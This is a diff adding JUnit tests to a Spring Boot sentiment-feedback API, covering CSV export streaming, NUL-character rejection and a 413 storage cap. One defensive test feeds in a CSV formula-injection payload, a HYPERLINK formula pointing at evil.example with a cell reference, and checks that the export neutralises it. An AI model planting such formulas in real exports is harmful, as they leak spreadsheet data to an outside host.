@@ -10,7 +10,10 @@ import com.example.sentiment.model.ModelService;
 import java.nio.file.Path;
 import java.util.Map;
 import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.MethodOrderer;
+import org.junit.jupiter.api.Order;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestMethodOrder;
 import org.junit.jupiter.api.io.TempDir;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.context.SpringBootTest;
@@ -26,7 +29,10 @@ import tools.jackson.databind.json.JsonMapper;
 /** Corrections over HTTP: checked against the model's labels, listed newest first, exported as CSV. */
 @SpringBootTest
 @AutoConfigureMockMvc
+@TestMethodOrder(MethodOrderer.OrderAnnotation.class) // the test that fills the store runs last
 class FeedbackApiTest {
+
+    private static final int MAX_ENTRIES = 15;
 
     @TempDir
     static Path models;
@@ -34,6 +40,7 @@ class FeedbackApiTest {
     @DynamicPropertySource
     static void properties(DynamicPropertyRegistry registry) {
         TestProperties.isolatedStorage(registry, models);
+        registry.add("sentiment.feedback.max-entries", () -> MAX_ENTRIES);
     }
 
     @Autowired
@@ -128,8 +135,54 @@ class FeedbackApiTest {
         MockHttpServletResponse export = mvc.perform(get("/api/v1/feedback/export").param("modelId", other))
                 .andReturn().getResponse();
         assertThat(export.getContentType()).startsWith("text/csv");
+        assertThat(export.getHeader("Content-Length")).as("written as it is read, so its length is not known up front")
+                .isNull();
         assertThat(export.getContentAsString()).isEqualTo("text,label\r\n\"second\nline\",negative\r\nthird,negative\r\n");
         assertThat(mvc.perform(get("/api/v1/feedback/export")).andReturn().getResponse().getContentAsString())
                 .contains("\"first, \"\"quoted\"\"\",positive\r\n");
+    }
+
+    /** The export neutralises a formula (OWASP); the stored correction, which training reads, keeps its text. */
+    @Test
+    void aFormulaIsNeutralisedInTheExportOnlyAndTheStoredTextStaysAsGiven() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+        JsonNode stored = created(Map.of("text", formula, "label", "@risk", "newLabel", true));
+        assertThat(stored.get("text").asString()).isEqualTo(formula);
+        JsonNode fetched = json.readTree(mvc.perform(get("/api/v1/feedback/" + stored.get("id").asString()))
+                .andReturn().getResponse().getContentAsString());
+        assertThat(fetched.get("text").asString()).isEqualTo(formula);
+        assertThat(mvc.perform(get("/api/v1/feedback/export")).andReturn().getResponse().getContentAsString())
+                .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'@risk\"\r\n")
+                .doesNotContain("\r\n=HYPERLINK");
+    }
+
+    /** U+0000 cannot be stored by PostgreSQL; every backend answers it with a 400, not a 500 from the database. */
+    @Test
+    void aNulCharacterIsA400ProblemOnTheField() throws Exception {
+        assertBadField(send(Map.of("text", "nul \u0000 inside", "label", "positive")), "text");
+        assertBadField(send(Map.of("text", "fine", "label", "x\u0000", "newLabel", true)), "label");
+        MockHttpServletResponse surrogate = mvc.perform(post("/api/v1/feedback").contentType(MediaType.APPLICATION_JSON)
+                .content("{\"text\":\"half \\ud83d a pair\",\"label\":\"positive\"}")).andReturn().getResponse();
+        assertBadField(surrogate, "text");
+    }
+
+    /** Past sentiment.feedback.max-entries a correction is a 413 problem, and nothing more is stored. */
+    @Test
+    @Order(Integer.MAX_VALUE)
+    void pastTheCapACorrectionIsA413ProblemAndNothingIsStored() throws Exception {
+        MockHttpServletResponse response = null;
+        for (int i = 0; i <= MAX_ENTRIES; i++) {
+            response = send(Map.of("text", "filling " + i, "label", "positive"));
+            if (response.getStatus() != 201) {
+                break;
+            }
+        }
+        assertThat(response.getStatus()).as(response.getContentAsString()).isEqualTo(413);
+        assertThat(response.getContentType()).isEqualTo("application/problem+json");
+        JsonNode problem = json.readTree(response.getContentAsString());
+        assertThat(problem.get("type").asString()).endsWith("/problems/feedback-store-full");
+        assertThat(problem.get("detail").asString()).contains("sentiment.feedback.max-entries");
+        JsonNode list = json.readTree(mvc.perform(get("/api/v1/feedback")).andReturn().getResponse().getContentAsString());
+        assertThat(list.get("total").asLong()).isEqualTo(MAX_ENTRIES);
     }
 }
